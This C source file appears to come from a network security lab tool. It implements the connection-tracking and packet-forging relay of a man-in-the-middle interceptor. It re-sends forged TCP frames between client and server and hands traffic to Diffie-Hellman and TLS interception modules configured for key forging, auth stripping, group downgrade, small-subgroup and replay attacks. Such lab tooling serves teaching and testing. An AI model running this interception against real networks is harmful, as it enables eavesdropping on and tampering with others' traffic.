/* dh-mitm per-connection glue (see mitm_flow.h). */
#include "mitm_flow.h"

#include <stdlib.h>
#include <string.h>

#include "attack_dhmitm.h"
#include "mlab_err.h"
#include "netsum.h"
#include "tcp_stream.h"
#include "tls_mitm.h"

struct mitm_flow {
	bool used;
	uint8_t ip[2][4]; /* [A] client (alice), [B] server (bob) */
	uint16_t port[2];
	uint8_t mac[2][6]; /* true MACs */
	uint16_t ip_id[2]; /* per direction of travel */
	int wscale[2];	   /* window scale each side offered in its SYN, -1: none */
	struct tcp_stream *ts;
	struct dhmitm *dm;
	struct tls_mitm *tm; /* --proto tls, in place of dm */
	bool failed;
	struct mitm_table *t;
};

struct mitm_table {
	struct mitm_params p;
	struct dhmitm_rule rules[8];
	size_t n_rules;
	struct mitm_flow flows[MITM_MAX_FLOWS];
	uint8_t frame[14 + 20 + 24 + 65535];
};

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, (uint16_t)(v >> 16));
	put16(p + 2, (uint16_t)v);
}

/* One segment travelling in dir (A2B: towards bob), built from scratch. */
static void emit(void *arg, enum tcp_stream_dir dir, const struct tcp_stream_seg *seg)
{
	struct mitm_flow *fl = arg;
	struct mitm_table *t = fl->t;
	int from = dir == TCP_STREAM_A2B ? 0 : 1, to = 1 - from;
	bool syn = (seg->flags & DISSECT_TCP_SYN) != 0;
	size_t opt = syn ? (fl->wscale[from] >= 0 ? 8 : 4) : 0, tcp_len = 20 + opt;
	size_t ip_len = 20 + tcp_len + seg->len;
	uint8_t *e = t->frame, *ip = e + 14, *tcp = ip + 20;

	if (ip_len > 65535)
		return;
	memcpy(e, fl->mac[to], 6);
	memcpy(e + 6, t->p.my_mac, 6);
	put16(e + 12, 0x0800);
	memset(ip, 0, 20);
	ip[0] = 0x45;
	put16(ip + 2, (uint16_t)ip_len);
	put16(ip + 4, fl->ip_id[from]++);
	put16(ip + 6, 0x4000); /* don't fragment */
	ip[8] = 64;
	ip[9] = 6;
	memcpy(ip + 12, fl->ip[from], 4);
	memcpy(ip + 16, fl->ip[to], 4);
	memset(tcp, 0, tcp_len);
	put16(tcp, fl->port[from]);
	put16(tcp + 2, fl->port[to]);
	put32(tcp + 4, seg->seq);
	put32(tcp + 8, seg->ack);
	tcp[12] = (uint8_t)((tcp_len / 4) << 4);
	tcp[13] = seg->flags;
	put16(tcp + 14, seg->window);
	if (opt) { /* MSS, and the sender's own window scale passed through */
		tcp[20] = 2;
		tcp[21] = 4;
		put16(tcp + 22, MITM_MSS);
		if (opt == 8) {
			tcp[24] = 1; /* NOP */
			tcp[25] = 3;
			tcp[26] = 3;
			tcp[27] = (uint8_t)fl->wscale[from];
		}
	}
	if (seg->len)
		memcpy(tcp + tcp_len, seg->payload, seg->len);
	(void)netsum_fix_ip4(ip, ip_len);
	(void)t->p.send(t->p.send_arg, e, 14 + ip_len);
}

static int rewrite(void *arg, enum tcp_stream_dir dir, const struct tcp_stream_frame *f, struct mlab_wr *out)
{
	struct mitm_flow *fl = arg;
	return dhmitm_on_frame(fl->dm, dir == TCP_STREAM_A2B ? DHMITM_TO_BOB : DHMITM_TO_ALICE, f->type, f->body,
			       f->body_len, out);
}

/* TLS: whole records, interception's own failures reported there (then the
 * records pass as they are). */
static int rewrite_tls(void *arg, enum tcp_stream_dir dir, const struct tcp_stream_frame *f, struct mlab_wr *out)
{
	struct mitm_flow *fl = arg;
	int e = tls_mitm_on_record(fl->tm, dir == TCP_STREAM_A2B ? DHMITM_TO_BOB : DHMITM_TO_ALICE, f->raw, f->raw_len,
				   out);
	return e == 0 ? 0 : mlab_wr_bytes(out, f->raw, f->raw_len);
}

struct mitm_table *mitm_table_new(const struct mitm_params *p)
{
	struct mitm_table *t = calloc(1, sizeof *t);
	if (!t)
		return NULL;
	t->p = *p;
	for (size_t i = 0; i < p->n_tamper && i < sizeof t->rules / sizeof t->rules[0]; i++)
		if (dhmitm_rule_parse(p->tamper[i], &t->rules[t->n_rules]) == 0)
			t->n_rules++;
	return t;
}

static void flow_free(struct mitm_flow *fl)
{
	if (fl->ts) {
		const struct tcp_stream_stats *st = tcp_stream_stats(fl->ts);
		mlab_ev_emit(fl->t->p.ev, "stream-stats",
			     json_pack("{s:I,s:I,s:I,s:I,s:I,s:I,s:I,s:I}", "segments_in", (json_int_t)st->segments_in,
				       "segments_out", (json_int_t)st->segments_out, "refused", (json_int_t)st->refused,
				       "ooo_dropped", (json_int_t)st->ooo_dropped, "ignored", (json_int_t)st->ignored,
				       "resent", (json_int_t)st->resent, "absorbed", (json_int_t)st->absorbed,
				       "own_acks", (json_int_t)st->own_acks),
			     "connection relayed: %llu segments in, %llu out, %llu resent, %llu refused",
			     (unsigned long long)st->segments_in, (unsigned long long)st->segments_out,
			     (unsigned long long)st->resent, (unsigned long long)st->refused);
		tcp_stream_free(fl->ts);
	}
	if (fl->dm)
		dhmitm_free(fl->dm);
	tls_mitm_free(fl->tm);
	memset(fl, 0, sizeof *fl);
}

static struct mitm_flow *flow_new(struct mitm_table *t, const struct dissect_frame *f, bool from_client,
				  const uint8_t src_mac[6], const uint8_t dst_mac[6])
{
	struct mitm_flow *fl = NULL;
	for (size_t i = 0; i < MITM_MAX_FLOWS && !fl; i++)
		if (!t->flows[i].used)
			fl = &t->flows[i];
	if (!fl) { /* full: the oldest slot goes (the lab has one connection at a time) */
		fl = &t->flows[0];
		flow_free(fl);
	}
	int a = from_client ? 0 : 1, b = 1 - a;
	memcpy(fl->ip[a], f->ip4.src, 4);
	memcpy(fl->ip[b], f->ip4.dst, 4);
	fl->port[a] = f->tcp.sport;
	fl->port[b] = f->tcp.dport;
	memcpy(fl->mac[a], src_mac, 6);
	memcpy(fl->mac[b], dst_mac, 6);
	fl->wscale[0] = fl->wscale[1] = -1;
	fl->t = t;
	struct dhmitm_config dc = {.forge_key = t->p.forge_key,
				   .chain = t->p.chain,
				   .rules = t->rules,
				   .n_rules = t->n_rules,
				   .key_fixing = t->p.key_fixing,
				   .strip_auth = t->p.strip_auth,
				   .downgrade_group = t->p.downgrade_group,
				   .malicious_g = (enum dhmitm_g)t->p.malicious_g,
				   .small_subgroup = t->p.small_subgroup,
				   .replay_record = t->p.replay_record};
	struct tcp_stream_cfg tc = {.emit = emit, .emit_arg = fl, .mss = MITM_MSS};
	if (t->p.tls) {
		struct tls_mitm_config mc = {.chain = t->p.chain,
					     .key = t->p.forge_key,
					     .rules = t->rules,
					     .n_rules = t->n_rules,
					     .downgrade = t->p.tls_downgrade,
					     .keylog = t->p.keylog};
		if (tls_mitm_new(&fl->tm, &mc, t->p.ev) != 0)
			return NULL;
		tc.framing = TCP_STREAM_TLS;
		tc.rewrite[TCP_STREAM_A2B] = tc.rewrite[TCP_STREAM_B2A] = rewrite_tls;
	} else {
		if (dhmitm_new(&fl->dm, &dc, t->p.ev) != 0)
			return NULL;
		tc.rewrite[TCP_STREAM_A2B] = tc.rewrite[TCP_STREAM_B2A] = rewrite;
	}
	tc.rewrite_arg[TCP_STREAM_A2B] = tc.rewrite_arg[TCP_STREAM_B2A] = fl;
	if (!(fl->ts = tcp_stream_new(&tc))) {
		if (fl->dm)
			dhmitm_free(fl->dm);
		fl->dm = NULL;
		tls_mitm_free(fl->tm);
		fl->tm = NULL;
		return NULL;
	}
	fl->used = true;
	return fl;
}

int mitm_table_input(struct mitm_table *t, const struct dissect_frame *f, const uint8_t src_mac[6],
		     const uint8_t dst_mac[6])
{
	struct mitm_flow *fl = NULL;
	int dir = -1;

	for (size_t i = 0; i < MITM_MAX_FLOWS && !fl; i++) {
		struct mitm_flow *c = &t->flows[i];
		if (!c->used)
			continue;
		for (int d = 0; d < 2 && !fl; d++)
			if (!memcmp(f->ip4.src, c->ip[d], 4) && !memcmp(f->ip4.dst, c->ip[1 - d], 4) &&
			    f->tcp.sport == c->port[d] && f->tcp.dport == c->port[1 - d]) {
				fl = c;
				dir = d == 0 ? TCP_STREAM_A2B : TCP_STREAM_B2A;
			}
	}
	bool syn = (f->tcp.flags & (DISSECT_TCP_SYN | DISSECT_TCP_ACK)) == DISSECT_TCP_SYN;
	/* A new SYN from the client side starts a new connection. */
	if (fl && syn && dir == TCP_STREAM_A2B && tcp_stream_closed(fl->ts)) {
		flow_free(fl);
		fl = NULL;
	}
	if (!fl) {
		bool from_client = f->tcp.dport == t->p.port;
		if (!(fl = flow_new(t, f, from_client, src_mac, dst_mac)))
			return MLAB_E_NOMEM;
		dir = from_client ? TCP_STREAM_A2B : TCP_STREAM_B2A;
	}
	if (fl->failed)
		return 0;
	/* Window scaling passes through as each side offered it: the engine
	 * passes raw windows unchanged, so both ends must agree on the scale. */
	if (f->tcp.flags & DISSECT_TCP_SYN) {
		const uint8_t *o = f->tcp.payload - (f->tcp.hdr_len - 20);
		size_t n = (size_t)f->tcp.hdr_len - 20;
		for (size_t i = 0; i < n;) {
			if (o[i] == 0)
				break;
			if (o[i] == 1) {
				i++;
				continue;
			}
			if (i + 1 >= n || o[i + 1] < 2 || i + o[i + 1] > n)
				break;
			if (o[i] == 3 && o[i + 1] == 3)
				fl->wscale[dir == TCP_STREAM_A2B ? 0 : 1] = o[i + 2] > 14 ? 14 : o[i + 2];
			i += o[i + 1];
		}
	}
	struct tcp_stream_seg seg;
	tcp_stream_seg_from_dissect(&f->tcp, &seg);
	int e = tcp_stream_input(fl->ts, (enum tcp_stream_dir)dir, &seg);
	if (e != 0 && e != MLAB_E_FAILED) {
		fl->failed = true;
		mlab_ev_error(t->p.ev, e, "relay", "the TCP stream could not be followed; this connection is lost");
		return e;
	}
	return 0;
}

void mitm_table_free(struct mitm_table *t)
{
	if (!t)
		return;
	for (size_t i = 0; i < MITM_MAX_FLOWS; i++)
		if (t->flows[i].used)
			flow_free(&t->flows[i]);
	free(t);
}
